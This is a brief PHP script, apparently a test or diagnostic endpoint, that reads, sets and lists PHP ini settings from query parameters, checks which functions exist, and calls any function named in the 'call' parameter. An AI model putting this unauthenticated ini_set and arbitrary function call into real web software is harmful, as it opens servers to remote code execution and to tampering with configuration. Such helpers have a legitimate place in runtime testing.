<?php
header('Content-Type: text/plain');
if (isset($_GET['set'])) foreach ($_GET['set'] as $name => $value) { echo "set $name ", var_export(ini_set($name, $value), true), "\n"; }
if (isset($_GET['restore'])) ini_restore($_GET['restore']);
foreach (explode(',', $_GET['get'] ?? '') as $name) if ($name !== '') echo "$name = ", var_export(ini_get($name), true), "\n";
if (isset($_GET['access'])) foreach (explode(',', $_GET['access']) as $name) {
    $one = ini_get_all(null, true)[$name] ?? null;
    echo $name, ' ', json_encode($one), "\n";
}
if (isset($_GET['all'])) foreach (ini_get_all(null, false) as $name => $value) echo "$name=", json_encode($value), "\n";
if (isset($_GET['f'])) echo json_encode(array_map('function_exists', explode(',', $_GET['f']))), "\n";
if (isset($_GET['call'])) echo json_encode($_GET['call']('x')), "\n";
